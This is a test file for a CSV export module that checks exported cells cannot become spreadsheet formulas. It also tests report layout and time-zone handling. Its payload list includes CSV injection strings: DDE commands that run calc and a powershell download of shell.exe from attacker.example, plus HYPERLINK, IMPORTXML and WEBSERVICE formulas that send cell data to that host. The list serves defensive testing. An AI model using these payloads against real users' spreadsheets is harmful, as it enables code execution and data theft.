import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { toCsv } from '../../server/http/csv.ts'
import { reportFileName, toReportCsv } from '../../server/http/report-csv.ts'
import type { ReportView } from '../../server/http/report-schemas.ts'

/** Of the lists that testers use: OWASP "CSV Injection", PayloadsAllTheThings, and reports of CVEs. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click me")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '+44 20 7946 0018=1',
  ' =1+1',
  '\t=1+1',
  '\ttext after a tab',
  '\r=1+1',
  '\n=1+1',
  '\rtext after a break',
  '\u0000=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '"=1+1"',
  '""=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '|calc',
  '\u2212 1+1',
  // The separator of another country, and a quote that would end the cell.
  'Sales;=1+1',
  'Sales; =1+1',
  'Sales,=1+1',
  'Sales\t=1+1',
  'Sales\r\n=1+1',
  'Sales\n"=1+1',
  'Sales";=1+1;"',
  'Sales","=1+1","',
  'Sales";"@SUM(1+1)',
  '%0A-1+1\n-1+1',
]

/** What a spreadsheet makes a formula of. */
const FORMULA = /^[\s\p{Cc}\p{Cf}"]*[=+\-@|＝＋－＠﹦\u2212]/u

/** Cells as a spreadsheet reads them with this separator: quotes count only where a cell begins. */
function cellsOf(text: string, separator: string): string[][] {
  const rows: string[][] = [['']]
  let isQuoted = false
  for (let at = 0; at < text.length; at += 1) {
    const row = rows.at(-1)!
    const char = text[at]!
    const isStart = row.at(-1) === '' && (at === 0 || [separator, '\n'].includes(text[at - 1]!))
    if (isQuoted && char === '"' && text[at + 1] === '"') {
      row[row.length - 1] += '"'
      at += 1
    } else if (char === '"' && (isQuoted || isStart)) isQuoted = !isQuoted
    else if (!isQuoted && char === separator) row.push('')
    else if (!isQuoted && char === '\n') rows.push([''])
    else if (isQuoted || char !== '\r') row[row.length - 1] += char
  }
  return rows.slice(0, -1)
}

const withoutMark = (csv: string): string => {
  assert.equal(csv[0], '\ufeff')
  return csv.slice(1)
}

function formulasIn(csv: string): string[] {
  return [',', ';', '\t'].flatMap((separator) =>
    cellsOf(withoutMark(csv), separator)
      .flat()
      .filter((cell) => FORMULA.test(cell)),
  )
}

for (const payload of PAYLOADS) {
  test(`SAFE-1 no formula: ${JSON.stringify(payload)}`, () => {
    const csv = toCsv([
      ['queue', payload, 5],
      [payload, payload, null],
    ])
    assert.deepEqual(formulasIn(csv), [])
    const [first, second] = cellsOf(withoutMark(csv), ',')
    assert.deepEqual([first?.length, second?.length], [3, 3])
    assert.equal(first?.[1]?.replaceAll("'", ''), payload.replaceAll("'", ''))
  })
}

test('SAFE-1 no text of any characters becomes a formula or breaks its row', () => {
  const piece = fc.constantFrom(...'=+-@|,;"\'\t\r\n a1＝\u200b\u00a0\u2212')
  const word = fc.string({ unit: piece, maxLength: 12 })
  fc.assert(
    fc.property(fc.array(word, { minLength: 2, maxLength: 4 }), (row) => {
      const csv = toCsv([row, row])
      assert.deepEqual(formulasIn(csv), [])
      const read = cellsOf(withoutMark(csv), ',')
      assert.deepEqual(
        read.map((cells) => cells.map((cell) => cell.replaceAll("'", ''))),
        [row, row].map((cells) => cells.map((cell) => cell.replaceAll("'", ''))),
      )
    }),
    { numRuns: 2000 },
  )
})

test('REP CSV: names of people and queues that only look a little like formulas stay as they are', () => {
  for (const name of [
    "O'Brien",
    'Anna-Lena',
    'Sales + Support',
    'a=b',
    'x@example.com',
    'Žofie “Z”',
  ]) {
    assert.deepEqual(cellsOf(withoutMark(toCsv([[name]])), ','), [[name]])
  }
})

const LEADERBOARD: ReportView = {
  report: 'leaderboard',
  // March 2026 in Berlin: it begins at +1 and ends at +2.
  from: '2026-02-28T23:00:00.000Z',
  to: '2026-03-31T22:00:00.000Z',
  tz: 'Europe/Berlin',
  by: 'agent',
  previousFrom: '2026-01-31T23:00:00.000Z',
  previousTo: '2026-02-28T23:00:00.000Z',
  targets: { serviceLevelSeconds: 20, resolutionSeconds: 86_400 },
  columns: [
    { key: 'newTotal', unit: 'count', applies: true, adds: true },
    { key: 'firstResponse', unit: 'seconds', applies: false, adds: false },
    { key: 'resolutionSeconds', unit: 'seconds', applies: true, adds: false },
  ],
  rows: [
    {
      group: { agentId: 'a1' },
      values: { newTotal: 3, firstResponse: null, resolutionSeconds: 90.5 },
    },
    { group: { agentId: 'a2' }, values: { newTotal: 0, firstResponse: null } },
    {
      group: { agentId: null },
      values: { newTotal: 1, firstResponse: null, resolutionSeconds: null },
    },
  ],
  total: { newTotal: 4, firstResponse: null, resolutionSeconds: 90.5 },
  previous: { newTotal: 2, firstResponse: null, resolutionSeconds: null },
}

test('REP CSV: header, rows, total and the period before; agents by name, times of the zone, no zero for what does not apply', () => {
  const csv = toReportCsv(LEADERBOARD, new Map([['a1', '=Anna "Ä" +1']]))
  const march = '"2026-03-01 00:00:00","2026-04-01 00:00:00","Europe/Berlin"'
  const february = '"2026-02-01 00:00:00","2026-03-01 00:00:00","Europe/Berlin"'
  assert.deepEqual(withoutMark(csv).split('\r\n'), [
    '"row","from","to","tz","agent","agentId","newTotal","firstResponse","resolutionSeconds"',
    `"agent",${march},"'=Anna ""Ä"" +1","a1",3,"does not apply to calls",90.5`,
    `"agent",${march},"a2","a2",0,"does not apply to calls",`,
    `"agent",${march},"nobody",,1,"does not apply to calls",`,
    `"total",${march},,,4,"does not apply to calls",90.5`,
    `"previous",${february},,,2,"does not apply to calls",`,
    '',
  ])
  assert.equal(reportFileName(LEADERBOARD), 'ringside-leaderboard-2026-03-01-2026-03-31.csv')
})

test('REP CSV: a row says its group in columns of its own', () => {
  const columns = [{ key: 'handled', unit: 'count', applies: true, adds: true }] as const
  const values = { handled: 2 }
  const rowsOf = (by: ReportView['by'], group: ReportView['rows'][number]['group']) =>
    cellsOf(
      withoutMark(
        toReportCsv(
          { ...LEADERBOARD, by, columns: [...columns], rows: [{ group, values }] },
          new Map(),
        ),
      ),
      ',',
    ).map((row) => row.slice(4).join(' '))
  assert.deepEqual(rowsOf('day', { date: '2026-03-29' }).slice(0, 2), [
    'date handled',
    '2026-03-29 2',
  ])
  assert.deepEqual(rowsOf('hour-of-week', { weekday: 7, hour: 0 }).slice(0, 2), [
    'weekday hour handled',
    '7 0 2',
  ])
  assert.deepEqual(
    rowsOf('channel', { direction: 'incoming', outcome: 'missed', queue: 'Sales;=1' }).slice(0, 2),
    ['direction outcome queue handled', "incoming missed Sales;'=1 2"],
  )
  assert.deepEqual(rowsOf('none', {}).slice(0, 2), ['handled', '2'])
})
